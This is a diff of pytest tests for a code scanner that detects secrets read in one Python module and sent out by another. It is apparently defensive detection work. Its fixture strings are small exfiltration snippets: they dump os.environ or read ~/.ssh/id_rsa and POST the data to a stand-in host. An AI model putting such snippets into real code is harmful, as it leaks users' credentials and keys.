@@ -246,6 +246,70 @@ def test_a_file_that_only_brings_two_modules_together_is_looked_at(
     assert (found.rule, found.severity) == ("sends-secrets", Severity.HIGH)
 
 
+SNAP = "import os\nSNAP = dict(os.environ)\n"
+KEYS = "from pathlib import Path\nSNAP = (Path.home() / '.ssh' / 'id_rsa').read_text()\n"
+POST = "import requests\nrequests.post('https://a.example', json={})\n"
+LATER = "import requests\ndef go():\n    requests.post('https://a.example', json={})\n"
+SHIP = "import requests\ndef ship(what):\n    requests.post('https://a.example', json=what)\n"
+
+
+@pytest.mark.parametrize(
+    ("files", "waits"),
+    [
+        ({"a": SNAP, "b": f"from .a import SNAP\n{POST.format('SNAP')}"}, False),
+        ({"a": KEYS, "b": f"from .a import SNAP as s\n{POST.format('str(s)')}"}, False),
+        ({"a": SNAP, "b": f"from . import a\n{POST.format('a.SNAP')}"}, False),
+        ({"a": SNAP, "b": f"import sample.a\n{POST.format('sample.a.SNAP')}"}, False),
+        ({"a": SNAP, "b": f"from sample.a import SNAP\n{POST.format('{1: SNAP}')}"}, False),
+        ({"a": SNAP, "b": f"from .a import *\n{POST.format('SNAP')}"}, False),
+        ({"a": SNAP, "b": f"from .a import SNAP\n{LATER.format('SNAP')}"}, True),
+        ({"a": KEYS, "b": f"from .a import SNAP\n{LATER.format('SNAP')}"}, True),
+        (
+            {"a": "import os\ndef get():\n    return str(os.environ)\n",
+             "b": f"from .a import get\n{POST.format('get()')}"},
+            False,
+        ),
+        ({"b": SHIP, "a": "import os\nfrom .b import ship\nship(dict(os.environ))\n"}, False),
+        ({"b": SHIP, "a": "import os\nfrom .b import *\nship(dict(os.environ))\n"}, False),
+        ({"b": SHIP, "a": "import os\nfrom . import b\nb.ship(os.environ.copy())\n"}, False),
+        (
+            {"a": SNAP, "b": SHIP, "c": "from .a import SNAP\nfrom .b import ship\nship(SNAP)\n"},
+            False,
+        ),
+    ],
+    ids=range(13),
+)  # fmt: skip
+def test_what_one_module_reads_and_another_sends_is_told(
+    behaviour: BehaviourScanner, tmp_path: Path, files: dict[str, str], waits: bool
+) -> None:
+    named = {f"sample/{name}.py": text for name, text in files.items()}
+
+    found = scan(behaviour, tmp_path, {"sample/__init__.py": "", **named})
+
+    assert [(each.rule, each.waits) for each in found] == [("sends-secrets", waits)]
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"a": "import os\nWAIT = os.environ.get('WAIT')\n",
+         "b": "from .a import WAIT\nimport requests\nrequests.get('https://a', timeout=WAIT)\n"},
+        {"a": f"{SNAP}def run(): pass\n",
+         "b": "from .a import run\nimport requests\nrequests.get('https://a')\nrun()\n"},
+        {"a": SNAP, "b": POST.format("1"), "c": "from . import a, b\nprint(a.SNAP, b)\n"},
+        {"a": "import os\nKEY = os.environ['API_TOKEN']\n",
+         "b": f"from .a import KEY\n{LATER.format('KEY')}"},
+    ],
+    ids=range(4),
+)  # fmt: skip
+def test_modules_that_read_and_send_different_things_are_not(
+    behaviour: BehaviourScanner, tmp_path: Path, files: dict[str, str]
+) -> None:
+    named = {f"sample/{name}.py": text for name, text in files.items()}
+
+    assert scan(behaviour, tmp_path, {"sample/__init__.py": "", **named}) == []
+
+
 @pytest.mark.parametrize("name", ["notes.txt", "table.csv", "README", "page.js", "fast.pyx"])
 def test_python_that_is_named_like_data_counts(
     behaviour: BehaviourScanner, tmp_path: Path, name: str
